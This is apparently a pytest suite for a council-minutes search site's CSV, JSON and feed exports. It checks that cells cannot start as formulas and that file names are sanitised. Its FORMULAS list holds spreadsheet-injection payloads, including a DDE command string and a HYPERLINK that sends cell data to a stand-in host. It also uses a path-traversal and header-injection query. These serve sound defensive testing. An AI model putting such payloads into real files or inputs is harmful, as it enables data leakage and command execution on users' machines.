"""What is taken away is whole, opens in the programs it is for, and runs nothing there."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from indexer.listing import Listing
from indexer.model import Document, Query
from tests.web import sample
from tests.web.checks import CheckedClient
from tests.web.conftest import Opened, client_of, indexed
from tests.web.test_hostile import PAYLOADS, hostile
from web.exports.citation import citation
from web.exports.naming import file_name
from web.exports.records import json_object
from web.exports.table import AT_ONCE, COLUMNS, MARK, cell, csv_table

ROOT = "https://minutes.example"

FORMULAS = [
    "=1+1",
    "+44 1632 960000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
]


@pytest.fixture(scope="module")
def decision() -> Document:
    return next(d for d in sample.all_documents([sample.HELD]) if d.kind == "decision")


def rows(client: CheckedClient, asked: str = "") -> list[dict[str, str]]:
    response = client.get(f"/export/results.csv{asked}")
    assert (response.status_code, response.content_type) == (200, "text/csv; charset=utf-8")
    text = response.data.decode("utf-8")
    assert text.startswith(MARK)
    return list(csv.DictReader(io.StringIO(text.removeprefix(MARK), newline=""), strict=True))


def whole(client: CheckedClient, asked: str = "") -> dict[str, Any]:
    response = client.get(f"/export/results.json{asked}")
    assert (response.status_code, response.mimetype) == (200, "application/json")
    found: dict[str, Any] = json.loads(response.data)
    return found


def many(number: int) -> list[Any]:
    return [replace(sample.HELD, id=str(1000 + n), date=date(2010 + n % 9, 5, 2)) for n in range(number)]


def test_csv_has_a_row_for_every_result_whatever_the_page(opened: Opened) -> None:
    client = opened(many(60))  # more rows than are written together
    assert len(rows(client)) == 60 * 7
    assert len(rows(client, "?kind=decision&page=2&size=20")) == 60 * 3
    assert len({row["id"] for row in rows(client, "?kind=decision")}) == 60 * 3


def test_lines_end_as_windows_ends_them(client: CheckedClient) -> None:
    text = client.get("/export/results.csv?kind=decision").text
    assert text.count("\r\n") == text.count("\n") == 1 + 3


def test_rows_are_in_the_order_of_the_results(opened: Opened) -> None:
    client = opened(many(9))
    for asked in ("?q=footbridge", "?sort=oldest", "?q=the+quay&sort=newest"):
        shown = (client.get(f"/api/v1/search{asked}&size=100").json or {})["hits"]
        assert [row["id"] for row in rows(client, asked)][: len(shown)] == [hit["id"] for hit in shown]
        assert [row["id"] for row in whole(client, asked)["rows"]][:100] == [hit["id"] for hit in shown]


def test_a_row_says_what_a_hit_says_and_leads_back(client: CheckedClient) -> None:
    [row] = rows(client, "?kind=action")
    assert tuple(row) == COLUMNS
    assert row["text"] == "bring a timetable of closures"
    assert (row["owner"], row["due"], row["decision_kind"]) == (
        "The Head of Highways",
        "to the May meeting",
        "",
    )
    assert row["url"].startswith("http://localhost/saltmere/310#item-5103-p")
    assert row["topics"] == "Bridges and quays"


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_as_a_formula(formula: str) -> None:
    written = cell(formula)
    assert written[0] == "'"
    assert written[1:].lstrip() == formula.lstrip("\ufeff\x00").lstrip()


@given(st.text())
def test_a_cell_is_text_to_any_spreadsheet_and_otherwise_what_it_was(text: str) -> None:
    written = cell(text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    seen = "".join(c for c in text if c in "\t\n\r" or not (c < " " or c in "\x7f\ufeff"))
    assert written.removeprefix("'") == seen.removeprefix("'")


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_a_table_is_read_back_as_it_was_written(texts: list[str]) -> None:
    [some] = [d for d in sample.all_documents([sample.HELD]) if d.kind == "action"]
    table = "".join(csv_table([some._replace(title=text) for text in texts], ROOT))
    read = csv.DictReader(io.StringIO(table.removeprefix(MARK), newline=""), strict=True)
    assert [row["title"] for row in read] == [cell(text) for text in texts]


def test_hostile_text_is_only_text_in_every_form(opened: Opened) -> None:
    texts = [*PAYLOADS, *FORMULAS]
    client = opened(replace(hostile(text), id=str(900 + n)) for n, text in enumerate(texts))
    assert {row["title"] for row in rows(client)} == {cell(text) for text in texts}
    assert {row["title"] for row in whole(client)["rows"]} == set(texts)
    assert client.get("/feed?size=100").status_code == 200  # and is XML, as the client sees


def test_json_says_what_was_asked_and_how_it_was_understood(client: CheckedClient) -> None:
    found = whole(client, "?q=footbridge+-rents&kind=decision&kind=item&since=2024&exact=1&sort=oldest")
    assert found["query"] == {
        "text": "footbridge -rents",
        "understood": client.get("/api/v1/search?q=footbridge+-rents").json["understood"],  # type: ignore[index]
        "exact": True,
        "also": [],
        "filters": {"kind": ["decision", "item"]},
        "since": "2024-01-01",
        "until": None,
        "sort": "oldest",
    }
    assert found["total"] == len(found["rows"]) == 3
    assert {row["kind"] for row in found["rows"]} == {"decision", "item"}


def test_nothing_found_is_a_header_an_empty_list_and_an_empty_feed(client: CheckedClient) -> None:
    assert rows(client, "?q=zeppelin") == []
    assert (whole(client, "?q=zeppelin")["total"], whole(client, "?q=zeppelin")["rows"]) == (0, [])
    assert client.get("/feed?q=zeppelin").status_code == 200


def test_rows_are_written_while_they_are_read(client: CheckedClient, decision: Document) -> None:
    taken = []

    def documents() -> Iterator[Document]:
        for number in range(1_000):
            taken.append(number)
            yield decision

    with client.application.test_request_context():
        next(csv_table(documents(), ROOT))
        assert len(taken) == AT_ONCE
        written = json_object(Listing(1_000, documents()), Query(), ROOT)
        assert [bool(next(written)) for _ in range(2)] == [True, True]
        assert len(taken) == 2 * AT_ONCE
        with pytest.raises(json.JSONDecodeError):  # what breaks off is not taken for the whole
            json.loads(next(written))


@pytest.mark.parametrize("address", ["/export/results.csv", "/export/results.json", "/feed"])
def test_what_is_not_understood_is_refused_rather_than_left_out(client: CheckedClient, address: str) -> None:
    assert "“bord”" in client.page(f"{address}?bord=Cabinet", 400).get_text()
    assert "“soon” is not a date" in client.page(f"{address}?q=x&since=soon", 400).get_text()


@pytest.mark.parametrize("address", ["/export/results.csv", "/export/results.json", "/feed"])
def test_without_an_index_it_is_said_that_there_is_none(address: str) -> None:
    assert "minutes index" in client_of(None, sample.Shelf()).page(address, 503).get_text()


@pytest.mark.parametrize(
    ("query", "name"),
    [
        (Query(), "minutes.csv"),
        (
            Query("harbour bridge", kinds=("decision",), years=(2024,)),
            "minutes-harbour-bridge-2024-decision.csv",
        ),
        (Query('"Ynys Môn" OR quay/slip'), "minutes-ynys-môn-or-quay-slip.csv"),
        (Query("../../etc/passwd\r\nX: y"), "minutes-etc-passwd-x-y.csv"),
        (Query("x" * 500), f"minutes-{'x' * 72}.csv"),
    ],
)
def test_a_file_is_named_after_the_search(client: CheckedClient, query: Query, name: str) -> None:
    with client.application.test_request_context():
        assert file_name(query, "csv") == name


def test_a_name_that_is_not_ascii_is_given_in_both_ways(client: CheckedClient) -> None:
    said = client.get("/export/results.csv?q=Môn").headers["Content-Disposition"]
    assert said == "attachment; filename=minutes-mon.csv; filename*=UTF-8''minutes-m%C3%B4n.csv"


def test_a_citation_says_whose_which_meeting_when_which_minute_and_where(
    client: CheckedClient, decision: Document
) -> None:
    with client.application.test_request_context():
        assert citation(decision, ROOT) == (
            "Saltmere Borough Council, Harbours and Open Spaces Board, 14 March 2024, draft minutes, "
            f"minute 41, “Harbour footbridge: repair or replacement”, {ROOT}{decision.url}"
        )
        assert "item 41" in citation(decision._replace(stage="agenda"), ROOT)
        assert "minute " not in citation(decision._replace(number=""), ROOT)


def test_a_suppressed_meeting_is_in_no_file_once_the_index_knows(tmp_path: Path) -> None:
    engine = indexed(tmp_path, [sample.HELD, sample.CANCELLED])
    client = client_of(engine, sample.Shelf())
    assert "footbridge" in client.get("/export/results.csv").text
    engine.replace(["saltmere/310"], [], 2)
    for address in ("/export/results.csv", "/export/results.json", "/feed"):
        assert "footbridge" not in client.get(address).text.lower()
